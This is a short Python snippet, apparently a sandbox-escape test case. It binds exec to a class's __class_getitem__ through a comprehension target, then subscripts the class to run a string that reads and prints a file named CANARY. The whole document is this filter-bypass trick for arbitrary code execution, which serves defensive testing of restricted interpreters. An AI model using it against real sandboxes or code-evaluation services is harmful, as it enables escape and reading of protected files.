class X:
    pass

[0 for X.__class_getitem__ in [exec]]
X["print(open('CANARY').read())"]
